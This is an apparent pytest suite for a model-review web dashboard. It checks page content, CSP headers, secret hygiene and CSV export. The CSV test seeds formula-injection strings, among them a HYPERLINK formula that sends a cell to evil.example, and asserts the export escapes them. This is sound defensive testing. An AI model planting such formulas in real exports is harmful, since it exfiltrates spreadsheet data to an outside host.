"""Every page, on a real database: what it shows, and that others' text stays text."""

import csv
import html
import re
from collections.abc import Callable
from contextlib import AbstractContextManager
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sqlalchemy import make_url
from starlette.routing import Route
from starlette.testclient import TestClient

from driftline.contracts import RunIds
from driftline.embedded import tokens
from driftline.operations.context import Context
from driftline.settings import Settings
from driftline.web.app import GUARDED
from tests.web import world
from tests.web.conftest import REVIEW

PAGES = (
    *("/", f"/reviews/{REVIEW}", f"/reviews/{REVIEW}?interest=meat", "/channels", "/channels/default/rollback", "/tables"),
    *(
        "/tables/3",
        "/tables/2/revoke",
        "/changes?before=1&after=3",
        "/experiments",
        "/experiments/rag-2026-03",
        "/updates",
        "/runs",
        "/explore",
        "/explore?first=meat&second=3",
        "/explore?first=x&second=1",
    ),
)


def text(page: str) -> str:
    return " ".join(re.sub(r"<[^>]+>", " ", page).split())


def test_what_waits_is_on_the_first_page_with_its_clock_and_its_failed_gates(owner: TestClient) -> None:
    shown = text(owner.get("/").text)
    assert "RAG refresh of 2026-10-03" in shown
    assert "expires in 6 d" in shown
    assert "Exact match failed" in shown
    assert "rag-refresh-2026-10-03" in shown


def test_a_review_shows_why_and_what_would_change(owner: TestClient) -> None:
    shown = text(owner.get(f"/reviews/{REVIEW}").text)
    order = [
        "What the report says",
        "does not beat the plain frequency table",
        "Why it was stopped",
        "is below the 90.00% it must reach",
        "margin −20.30 points",
        "Against counting",
        "What would change",
        "Answers that were not exact",
        "and <b>more".replace("<", "&lt;").replace(">", "&gt;"),
        "Training of model 1",
        "Candidates of this period",
        "Lineage",
        "Verdict",
    ]
    places = [shown.find(words) for words in order]
    assert -1 not in places, order[places.index(-1)]
    assert places == sorted(places)
    assert "Needed to abort, and to approve against a failed gate" in shown


def test_changes_are_searched_by_interest(owner: TestClient) -> None:
    everything = text(owner.get(f"/reviews/{REVIEW}").text)
    meat = text(owner.get(f"/reviews/{REVIEW}?interest=MEAT").text)
    found = re.search(r"(\d+) changed pairs have “MEAT”", meat)
    assert found
    assert 0 < int(found[1]) < int(re.search(r"(\d+) changed pairs;", everything)[1])  # type: ignore[index]
    assert "0 changed pairs have “zebra”" in text(owner.get(f"/reviews/{REVIEW}?interest=zebra").text)


def test_more_is_shown_to_whoever_asks(owner: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    """Of interests that gained and lost, and of versions: a page at a time."""
    monkeypatch.setattr("driftline.web.pages.review.BALANCES", 2)
    monkeypatch.setattr("driftline.web.pages.tables.LISTED", 2)
    for place in (f"/reviews/{REVIEW}?", "/changes?before=1&after=3&"):
        few, everything = (owner.get(place + more).text for more in ("", "interests=all"))
        more = re.search(r'href="([^"]*interests=all[^"]*)">all (\d+) interests', few)
        assert more
        assert everything.count('<td class="up">') + everything.count('<td class="down">') == int(more[2]) > 4
        assert few.count('<td class="up">') <= 2
        assert f"all {more[2]} interests" not in everything
        assert owner.get(html.unescape(more[1])).status_code == 200
    newest = owner.get("/tables").text
    assert ('href="/tables/3"' in newest, 'href="/tables/1"' in newest) == (True, False)
    older = owner.get("/tables?until=1").text
    assert ('href="/tables/3"' in older, 'href="/tables/1"' in older) == (False, True)
    assert 'href="/tables?until=1"' in newest


def test_no_page_has_a_secret(site: Callable[..., AbstractContextManager[TestClient]], filled: str, tmp_path: Path) -> None:
    secrets = ("session-s3cret", "client-s3cret", str(make_url(filled).password))
    with site(session_secret=secrets[0], client_secret=secrets[1]) as client:
        client.get("/login", params={"token": (token := tokens.issue(tmp_path))})
        for place in PAGES:
            answer = client.get(place)
            shown = answer.text + str(answer.headers)
            assert not [secret for secret in (*secrets, token) if secret in shown], place


def test_what_changed_goes_to_a_spreadsheet_in_which_no_text_is_a_formula(
    site: Callable[..., AbstractContextManager[TestClient]], make_database: Callable[[], str], tmp_path: Path
) -> None:
    evil = (
        '=HYPERLINK("http://evil.example?"&A1)',
        "+1",
        " -2+3",
        "@SUM(A1)",
        "\t=1",
        "＝1",
        "a=b",
        "x,y",
        'say "hi"',
        *world.NAMES[9:],
    )
    url = make_database()
    context = Context(Settings(postgres_url=url, temporal_address="127.0.0.1:1"))
    with context.engine.begin() as connection:
        world.fill(connection, RunIds("rag-refresh-2026-10-03", "run-9"), evil, REVIEW)
    context.engine.dispose()
    with site(url) as client:
        client.get("/login", params={"token": tokens.issue(tmp_path)})
        answer = client.get("/changes.csv?before=1&after=3")
        shown = int(re.search(r"([\d,]+) changed pairs", text(client.get("/changes?before=1&after=3").text))[1])  # type: ignore[index]
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == 'attachment; filename="changes-1-3.csv"'
    head, *rows = csv.reader(answer.text.splitlines())
    assert len(rows) == shown
    assert head[2:5] == ["first", "then", "traffic"]
    cells = {cell for row in rows for place in (2, 3, 6, 8) for cell in (row[place],)}
    assert not [cell for cell in cells if cell.lstrip().startswith(tuple("=+-@＝"))]
    assert {"'" + evil[0], "'+1", "' -2+3", "a=b", "x,y", 'say "hi"'} <= cells
    assert all(cell.isdecimal() for row in rows for cell in (*row[:2], row[4], row[5], row[7]))


def test_explore_answers_now_in_every_version_and_what_users_did(owner: TestClient) -> None:
    shown = text(owner.get("/explore?first=meat&second=candy, seasonal").text)
    assert "default answers" in shown
    assert all(f" {version} RAG refresh" in shown for version in (2, 3))
    assert re.search(r"[\d,]+ times in the window of table 2", shown)
    assert "with probability 36.79 % , by the LLM in table 2 ; " in shown
    assert re.search(r" 2 RAG refresh .* 36\.79 % +1 fine-tune .* –", shown), "of table 1 no score is on record"
    assert "No one interest is called “x”" in text(owner.get("/explore?first=x&second=1").text)
    assert "have to differ" in text(owner.get("/explore?first=1&second=1").text)


def test_tables_and_their_lineage(owner: TestClient) -> None:
    shown = text(owner.get("/tables").text)
    assert "Test-set recall" in shown
    assert all(f"{version} {kind}" in shown for version, kind in ((1, "fine-tune"), (2, "RAG refresh"), (3, "RAG refresh")))
    one = owner.get("/tables/3").text
    assert "SmolLM2-135M-Instruct" in one
    assert "http://127.0.0.1:8233/namespaces/default/workflows/rag-refresh-2026-10-03/run-9" in one


@pytest.mark.parametrize("place", ["/reviews/nothing", "/tables/99", "/changes?before=1&after=99", "/changes", "/nothing"])
def test_what_is_not_there_is_said_so(owner: TestClient, place: str) -> None:
    answer = owner.get(place)
    assert answer.status_code == 404
    assert "There is no such" in answer.text


class _Seen(HTMLParser):
    """What a browser would run or load."""

    def __init__(self) -> None:
        super().__init__()
        self.inline: list[str] = []
        self.sources: set[str] = set()
        self.scripted = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        known = dict(attrs)
        self.inline += [name for name in known if name == "style" or name.startswith("on")]
        self.scripted = tag in ("script", "style") and "src" not in known
        self.sources |= {str(known[name]) for name in ("src", "srcset") if name in known}
        self.sources |= {str(known["href"])} if tag == "link" else set()

    def handle_data(self, data: str) -> None:
        if self.scripted and data.strip():
            self.inline.append(data)


@pytest.mark.parametrize("place", PAGES)
def test_no_page_needs_anything_that_its_policy_forbids(owner: TestClient, place: str) -> None:
    answer = owner.get(place)
    assert answer.status_code == 200
    seen = _Seen()
    seen.feed(answer.text)
    assert seen.inline == []
    assert all(source.startswith("/static/") for source in seen.sources)
    policy = answer.headers["content-security-policy"]
    assert "unsafe" not in policy
    assert "default-src 'none'" in policy
    assert answer.headers["cache-control"] == "no-store"


def test_the_files_of_the_page_are_served_and_every_page_is_tried_here(owner: TestClient) -> None:
    for name in ("style.css", "driftline.js", "icon.svg"):
        assert owner.get(f"/static/{name}").status_code == 200
    tried = {re.sub(r"\?.*", "", place) for place in PAGES}
    shown = {route.path for route in GUARDED if isinstance(route, Route) and "GET" in (route.methods or ())} - {
        "/runs/events",
        "/changes.csv",
    }
    assert len(shown) == len(tried)


def test_a_table_of_counts_has_every_page_but_no_model(
    site: Callable[..., AbstractContextManager[TestClient]], make_database: Callable[[], str], tmp_path: Path
) -> None:
    url = make_database()
    context = Context(Settings(postgres_url=url, temporal_address="127.0.0.1:1"))
    with context.engine.begin() as connection:
        table = world.fill_with_counts(connection, RunIds("counts-1", "run-1"), "c0c0c0c0c0c0")
    context.engine.dispose()
    with site(url) as client:
        client.get("/login", params={"token": tokens.issue(tmp_path)})
        pages = {place: client.get(place) for place in ("/", "/reviews/c0c0c0c0c0c0", "/tables", f"/tables/{table}")}
    assert {place: page.status_code for place, page in pages.items()} == dict.fromkeys(pages, 200)
    review = text(pages["/reviews/c0c0c0c0c0c0"].text)
    assert "No LLM was asked" in review
    assert "Training of model" not in review
    assert "12.500" in text(pages[f"/tables/{table}"].text)
